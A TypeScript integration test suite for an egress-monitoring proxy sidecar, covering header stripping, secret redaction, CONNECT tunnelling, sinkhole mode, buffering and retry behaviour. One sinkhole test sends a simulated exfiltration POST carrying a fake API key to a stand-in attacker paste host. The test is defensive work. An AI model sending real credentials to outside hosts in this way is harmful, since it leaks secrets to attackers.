import fs from "node:fs";
import http from "node:http";
import net, { type AddressInfo } from "node:net";
import os from "node:os";
import path from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { IngestEvent } from "@bulwark/contracts";
import { FakePlatform } from "./testing/fake-platform";
import { spawnSidecar, waitFor, TEST_TOKEN, type SidecarProcess } from "./testing/spawn-sidecar";

const RUN_ID = "run_01h0000000000000000000000a";
const TURN_ID = "trn_01h0000000000000000000000b";
const OPENAI_KEY = "sk-proj-" + "Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4zAb7dEf0hIj3kLm6n";
const EMAIL = "victim.person@example.com";

// --- real servers on loopback -------------------------------------------------------------

let upstreamHits: { method?: string; url?: string; headers: http.IncomingHttpHeaders; body: string }[] = [];
const upstream = http.createServer((req, res) => {
  let body = "";
  req.on("data", (chunk: Buffer) => (body += chunk.toString()));
  req.on("end", () => {
    upstreamHits.push({ method: req.method, url: req.url, headers: req.headers, body });
    res.writeHead(201, { "content-type": "application/json" }).end(JSON.stringify({ echoed: body.length, contact: "ops@example.com" }));
  });
});
let echoConnections = 0;
const echo = net.createServer((socket) => {
  echoConnections += 1;
  socket.pipe(socket);
});

const sidecars: SidecarProcess[] = [];
const platforms: FakePlatform[] = [];
const dirs: string[] = [];

beforeAll(async () => {
  await new Promise<void>((resolve) => upstream.listen(0, "127.0.0.1", resolve));
  await new Promise<void>((resolve) => echo.listen(0, "127.0.0.1", resolve));
});
afterEach(async () => {
  for (const sidecar of sidecars.splice(0)) {
    sidecar.child.kill("SIGKILL");
    await sidecar.exited;
  }
  for (const platform of platforms.splice(0)) await platform.stop();
  for (const dir of dirs.splice(0)) fs.rmSync(dir, { recursive: true, force: true });
  upstreamHits = [];
});
afterAll(async () => {
  upstream.closeAllConnections();
  await new Promise((resolve) => upstream.close(resolve));
  await new Promise((resolve) => echo.close(resolve));
});

const upstreamPort = () => (upstream.address() as AddressInfo).port;
const echoPort = () => (echo.address() as AddressInfo).port;

async function setup({ sinkhole = false, platformUp = true, bufferDir }: { sinkhole?: boolean; platformUp?: boolean; bufferDir?: string } = {}) {
  const platform = new FakePlatform();
  platforms.push(platform);
  await platform.start();
  if (!platformUp) await platform.stop();
  const dir = bufferDir ?? fs.mkdtempSync(path.join(os.tmpdir(), "bw-sidecar-int-"));
  if (!bufferDir) dirs.push(dir);
  const sidecar = await spawnSidecar({ bulwarkUrl: platform.url, bufferDir: dir, sinkhole });
  sidecars.push(sidecar);
  if (platformUp) await waitFor(() => platform.heartbeats > 0, 10_000, "first heartbeat");
  return { platform, sidecar, dir };
}

function viaProxy(
  sidecar: SidecarProcess,
  url: string,
  { method = "GET", headers = {}, body }: { method?: string; headers?: Record<string, string>; body?: string } = {},
): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const target = new URL(url);
    const req = http.request({ host: "127.0.0.1", port: sidecar.port, method, path: url, headers: { host: target.host, ...headers }, agent: false });
    req.on("response", (res) => {
      let text = "";
      res.on("data", (chunk: Buffer) => (text += chunk.toString()));
      res.on("end", () => resolve({ status: res.statusCode ?? 0, body: text }));
    });
    req.on("error", reject);
    req.end(body);
  });
}

/** Opens a CONNECT tunnel, sends `payload`, collects what comes back until the tunnel closes. */
function tunnel(sidecar: SidecarProcess, authority: string, payload: string, headers: Record<string, string> = {}): Promise<{ status: number; received: string }> {
  return new Promise((resolve, reject) => {
    const req = http.request({ host: "127.0.0.1", port: sidecar.port, method: "CONNECT", path: authority, headers: { host: authority, ...headers } });
    req.on("connect", (res, socket) => {
      let received = "";
      socket.on("data", (chunk: Buffer) => {
        received += chunk.toString();
        if (received.length >= payload.length) socket.end();
      });
      socket.on("error", () => undefined);
      socket.on("close", () => resolve({ status: res.statusCode ?? 0, received }));
      socket.write(payload);
    });
    req.on("error", reject);
    req.end();
  });
}

type Egress = Extract<IngestEvent, { type: "egress.http" }>;
const egress = (platform: FakePlatform) => platform.events.filter((event): event is Egress & { id: string; type: string } => event.type === "egress.http");

// --- tests --------------------------------------------------------------------------------

describe("sidecar (real process)", () => {
  it("forwards plain HTTP, strips attribution headers, and ships a redacted, attributed event", async () => {
    const { platform, sidecar } = await setup();
    const url = `http://127.0.0.1:${upstreamPort()}/collect?key=${OPENAI_KEY}`;
    const res = await viaProxy(sidecar, url, {
      method: "POST",
      headers: {
        "content-type": "application/json",
        authorization: `Bearer ${OPENAI_KEY}`,
        "x-bulwark-run-id": RUN_ID,
        "x-bulwark-turn-id": TURN_ID,
      },
      body: JSON.stringify({ note: `send to ${EMAIL}`, ts: 1714564800123 }),
    });
    expect(res.status).toBe(201);
    expect(upstreamHits).toHaveLength(1);
    expect(upstreamHits[0]!.headers["x-bulwark-run-id"]).toBeUndefined();
    expect(upstreamHits[0]!.headers["x-bulwark-turn-id"]).toBeUndefined();
    expect(upstreamHits[0]!.headers.authorization).toBe(`Bearer ${OPENAI_KEY}`);

    await waitFor(() => egress(platform).length === 1, 10_000, "the event");
    expect(platform.tokens).toContain(`Bearer ${TEST_TOKEN}`);
    const [event] = egress(platform);
    expect(IngestEvent.safeParse(event).success).toBe(true);
    expect(event).toMatchObject({ runId: RUN_ID, turnId: TURN_ID });
    expect(event!.id).toMatch(/^[0-9a-f-]{36}$/);
    expect(event!.data).toMatchObject({
      method: "POST",
      scheme: "http",
      host: "127.0.0.1",
      port: upstreamPort(),
      status: 201,
      tls: false,
      destinationClass: "internal",
      bytesOut: Buffer.byteLength(upstreamHits[0]!.body),
    });
    expect(event!.data.bytesIn).toBeGreaterThan(0);
    expect(event!.data.path).toMatch(/^\/collect\?key=\[API_KEY\]$/);
    const locations = event!.data.hits.map((hit) => `${hit.kind}@${hit.location}`);
    expect(locations).toEqual(
      expect.arrayContaining(["API_KEY@request.url", "EMAIL@request.body$.note", "EMAIL@response.body$.contact"]),
    );
    expect(locations.some((loc) => loc.endsWith("@request.header.authorization"))).toBe(true);
    expect(event!.data.requestBodyExcerpt).toContain("[EMAIL]");
    expect(event!.data.requestBodyExcerpt).toContain("1714564800123");
    const wire = JSON.stringify(platform.batches);
    expect(wire).not.toContain(OPENAI_KEY);
    expect(wire).not.toContain(EMAIL);
    expect(wire).not.toContain("ops@example.com");
  });

  it("classifies with the heartbeat's tool domains and records an upstream failure as 502", async () => {
    const { platform, sidecar } = await setup();
    const res = await viaProxy(sidecar, "http://api.tools.test/x");
    expect(res.status).toBe(502);
    await waitFor(() => egress(platform).length === 1, 10_000, "the event");
    expect(egress(platform)[0]!.data).toMatchObject({ host: "api.tools.test", destinationClass: "tool", status: 502 });
  });

  it("relays a CONNECT tunnel blind and records host, port, bytes, duration and tls", async () => {
    const { platform, sidecar } = await setup();
    const authority = `127.0.0.1:${echoPort()}`;
    const { status, received } = await tunnel(sidecar, authority, "hello tunnel", { "x-bulwark-run-id": RUN_ID, "x-bulwark-turn-id": TURN_ID });
    expect(status).toBe(200);
    expect(received).toBe("hello tunnel");
    await waitFor(() => egress(platform).length === 1, 10_000, "the tunnel event");
    const [event] = egress(platform);
    expect(event).toMatchObject({ runId: RUN_ID, turnId: TURN_ID });
    expect(event!.data).toMatchObject({ method: "CONNECT", scheme: "https", host: "127.0.0.1", port: echoPort(), status: 200, tls: true, bytesOut: 12, bytesIn: 12, hits: [] });
    expect(event!.data.path).toBeUndefined();
    expect(event!.data.durationMs).toBeGreaterThanOrEqual(0);
  });

  it("in sinkhole mode answers itself, never reaches upstream, and records the attempt", async () => {
    const { platform, sidecar } = await setup({ sinkhole: true });
    const connectionsBefore = echoConnections;
    const res = await viaProxy(sidecar, `http://paste.attacker.example/upload`, { method: "POST", body: `leak ${OPENAI_KEY}` , headers: { "content-type": "text/plain" } });
    expect(res).toEqual({ status: 200, body: '{"ok":true}\n' });
    await viaProxy(sidecar, `http://127.0.0.1:${upstreamPort()}/x`);
    const { status, received } = await tunnel(sidecar, `127.0.0.1:${echoPort()}`, "client hello");
    expect(status).toBe(200);
    expect(received).toBe("");
    expect(upstreamHits).toHaveLength(0);
    expect(echoConnections).toBe(connectionsBefore);

    await waitFor(() => egress(platform).length === 3, 10_000, "three events");
    const byHost = egress(platform).map((event) => [event.data.method, event.data.host, event.data.destinationClass, event.data.status]);
    expect(byHost).toEqual(
      expect.arrayContaining([
        ["POST", "paste.attacker.example", "attacker_sink", 200],
        ["GET", "127.0.0.1", "internal", 200],
        ["CONNECT", "127.0.0.1", "internal", 200],
      ]),
    );
    expect(egress(platform).every((event) => event.data.sinkholed === true)).toBe(true);
    const post = egress(platform).find((event) => event.data.method === "POST")!;
    expect(post.data.requestBodyExcerpt).toBe("leak [API_KEY]");
    expect(JSON.stringify(platform.batches)).not.toContain(OPENAI_KEY);
  });

  it("delivers every event exactly once after the platform was down for ~3 s", async () => {
    const { platform, sidecar } = await setup();
    await platform.stop();
    const sent = 30;
    for (let i = 0; i < sent; i++) await viaProxy(sidecar, `http://127.0.0.1:${upstreamPort()}/n/${i}`);
    await new Promise((resolve) => setTimeout(resolve, 3_000));
    expect(platform.batches).toHaveLength(0);
    await platform.start();
    await waitFor(() => egress(platform).length === sent, 20_000, "all events after the outage");
    const ids = platform.deliveredIds;
    expect(new Set(ids).size).toBe(sent);
    expect(ids).toHaveLength(sent);
    expect(egress(platform).map((event) => event.data.path).sort()).toEqual(Array.from({ length: sent }, (_, i) => `/n/${i}`).sort());
  });

  it("honours Retry-After on 429", async () => {
    const { platform, sidecar } = await setup();
    platform.throttle = { remaining: 1, retryAfterSeconds: 2 };
    await viaProxy(sidecar, `http://127.0.0.1:${upstreamPort()}/throttled`);
    await waitFor(() => egress(platform).length === 1, 15_000, "the event after the 429");
    expect(platform.attempts.length).toBeGreaterThanOrEqual(2);
    expect(platform.attempts[1]! - platform.attempts[0]!).toBeGreaterThanOrEqual(1_900);
  });

  it("keeps its buffer across a crash and ships it after the restart", async () => {
    const { platform, sidecar, dir } = await setup({ platformUp: false });
    for (let i = 0; i < 5; i++) await viaProxy(sidecar, `http://127.0.0.1:${upstreamPort()}/before-crash/${i}`);
    // The sidecar records an exchange once it has finished, a moment after the client saw the
    // response: wait until all five are on disk, then crash it.
    const buffered = () => fs.readdirSync(dir).filter((name) => name.endsWith(".ndjson")).flatMap((name) => fs.readFileSync(path.join(dir, name), "utf8").split("\n").filter(Boolean));
    await waitFor(() => buffered().length === 5, 5_000, "five buffered events");
    sidecar.child.kill("SIGKILL");
    await sidecar.exited;
    expect(buffered()).toHaveLength(5);

    await platform.start();
    const restarted = await spawnSidecar({ bulwarkUrl: platform.url, bufferDir: dir });
    sidecars.push(restarted);
    await waitFor(() => egress(platform).length === 5, 15_000, "the buffered events");
    expect(new Set(platform.deliveredIds).size).toBe(5);
    await waitFor(() => fs.readdirSync(dir).length === 0, 5_000, "the acknowledged segment to be deleted");
  });

  it("on SIGTERM stops accepting, flushes and exits 0", async () => {
    const { platform, sidecar } = await setup();
    for (let i = 0; i < 3; i++) await viaProxy(sidecar, `http://127.0.0.1:${upstreamPort()}/last/${i}`);
    sidecar.child.kill("SIGTERM");
    expect(await sidecar.exited).toBe(0);
    expect(egress(platform)).toHaveLength(3);
  });
});
